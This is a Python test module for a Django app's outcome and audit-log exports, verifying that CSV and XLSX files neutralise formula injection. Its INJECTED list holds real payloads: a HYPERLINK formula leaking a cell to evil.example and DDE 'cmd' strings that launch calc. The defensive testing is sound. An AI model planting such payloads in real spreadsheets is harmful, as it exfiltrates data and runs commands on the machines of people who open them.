"""No cell of an exported spreadsheet runs as a formula when opened, whatever an organisation
typed into the labels and names it shows (CSV injection).

tests/outcomes/test_outcomes.py checks ``safe_cell`` itself; these open the files the pages
give out, with text that starts with each character a spreadsheet reads as a formula.
"""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from outcomes.models import Measure
from participants.models import ReferralSource
from tests.factories import ParticipantFactory, ReferralFactory

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
INJECTED = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _runs_as_formula(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _is_number(value)


@pytest.fixture
def injected(org_a):
    """Labels an organisation controls (referral sources, measures), each a formula."""
    sources = list(ReferralSource.objects.filter(organisation=org_a.organisation)[: len(INJECTED)])
    for source, text in zip(sources, INJECTED, strict=True):
        source.label_en = source.label_ru = text
        source.save()
        ReferralFactory(
            participant=ParticipantFactory(organisation=org_a.organisation), source=source
        )
    measures = list(Measure.objects.filter(instrument__organisation=org_a.organisation))
    for measure, text in zip(measures, INJECTED, strict=False):
        measure.label_en = measure.label_ru = text
        measure.save()
    return INJECTED


def _csv_cells(body: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]


def _xlsx_cells(body: bytes) -> list:
    workbook = openpyxl.load_workbook(io.BytesIO(body))
    cells = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                cells.append(cell.value)
    return cells


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_outcome_exports_neutralise_formulas(client_for, org_a, injected, fmt):
    client = client_for(org_a.manager, reauthenticated=True)
    response = client.get(reverse("outcomes:export", args=[fmt]))
    assert response.status_code == 200
    cells = _csv_cells(response.content) if fmt == "csv" else _xlsx_cells(response.content)
    shown = [cell for cell in cells if isinstance(cell, str) and cell[1:] in injected]
    assert shown, "the injected labels are not in the file: the check would prove nothing"
    assert not [cell for cell in cells if _runs_as_formula(cell)]


def test_the_audit_log_export_neutralises_formulas(client_for, org_a):
    """Usernames may start with + - or @ (Django allows them)."""
    from dvpp.models import User

    User.objects.filter(pk=org_a.facilitator.pk).update(username="-2+3+a@b")
    org_a.facilitator.refresh_from_db()
    client_for(org_a.facilitator).get(reverse("participants:index"))  # signs in: audited
    client = client_for(org_a.manager, reauthenticated=True)
    response = client.get(reverse("audit_log_export"))
    assert response.status_code == 200
    cells = _csv_cells(b"".join(response.streaming_content))
    assert any("-2+3+a@b" in cell for cell in cells)
    assert not [cell for cell in cells if _runs_as_formula(cell)]
